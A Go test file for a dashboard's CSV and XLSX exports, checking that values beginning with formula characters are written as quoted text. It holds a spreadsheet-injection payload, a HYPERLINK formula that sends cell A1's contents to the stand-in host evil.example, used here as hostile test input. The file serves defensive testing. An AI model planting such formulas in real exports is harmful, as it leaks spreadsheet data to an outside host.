package dashboard_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/antq-atlas/antq/analytics"
	"github.com/antq-atlas/antq/analytics/chstore/chstoretest"
	"github.com/antq-atlas/antq/dashboard"

	"github.com/xuri/excelize/v2"
)

var plainNumber = regexp.MustCompile(`^[+-]?[0-9]+([.,][0-9]+)*([eE][+-]?[0-9]+)?%?$`)

// TestServedFilesNeutraliseFormulas: a model type that reads as a formula
// (it came from an ingested file) and a hostile data source name reach the
// chart CSV and the XLSX export as text, never as formulas (issue #19:
// /charts/breakdown.csv wrote =HYPERLINK(…) unchanged).
func TestServedFilesNeutraliseFormulas(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"bấm")`
	geo := mustGeo(t)
	s := chstoretest.Open(t)
	if _, err := s.LoadReference(ctx, referenceFromSet(geo, "08")); err != nil {
		t.Fatal(err)
	}
	b := fixtureData(geo)
	for i := range b.Models {
		if b.Models[i].Type == "Camera an ninh" {
			b.Models[i].Type = evil
		}
	}
	for i := range b.Sites {
		if b.Sites[i].ModelType == "Camera an ninh" {
			b.Sites[i].ModelType = evil
		}
	}
	if err := s.Write(ctx, b); err != nil {
		t.Fatal(err)
	}
	if err := s.Commit(ctx, []analytics.ProvinceCode{"08"}); err != nil {
		t.Fatal(err)
	}
	app, err := newApp(dashboard.Config{Version: "test", Now: func() time.Time { return today }, Source: "@Công an tỉnh"},
		dashboard.Deps{Health: s, Reader: s, Geo: geo})
	if err != nil {
		t.Fatal(err)
	}
	f := &fixture{store: s, geo: geo, app: app}

	t.Run("breakdown.csv", func(t *testing.T) {
		r := f.get(t, "/charts/breakdown.csv?province=08")
		if r.status != http.StatusOK {
			t.Fatalf("%d %s", r.status, r.body)
		}
		cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\ufeff"))))
		cr.Comma = ';' // the Vietnamese default (params.CSVStyle)
		cr.FieldsPerRecord = -1
		rows, err := cr.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, row := range rows {
			for _, c := range row {
				if c == "'"+evil {
					found = true
				}
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !plainNumber.MatchString(c) {
					t.Errorf("cell %q would run as a formula", c)
				}
			}
		}
		if !found {
			t.Errorf("the model type is not in the CSV as the text '%s:\n%s", evil, r.body)
		}
	})
	t.Run("export.xlsx", func(t *testing.T) {
		r := f.get(t, "/api/v1/export.xlsx?province=08&metric=sites&compare=prev")
		if r.status != http.StatusOK {
			t.Fatalf("%d %s", r.status, r.body)
		}
		x, err := excelize.OpenReader(bytes.NewReader(r.body))
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		sawSource := false
		for _, sheet := range x.GetSheetList() {
			rows, _ := x.GetRows(sheet, excelize.Options{RawCellValue: true})
			for i, row := range rows {
				for j, c := range row {
					cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
					if typ, _ := x.GetCellType(sheet, cell); typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset {
						continue
					}
					if strings.HasPrefix(c, "'@Công an tỉnh") {
						sawSource = true
					}
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("%s!%s: text %q would run as a formula", sheet, cell, c)
					}
				}
			}
		}
		if !sawSource {
			t.Error("the data source is not written as the text '@Công an tỉnh…")
		}
	})
}
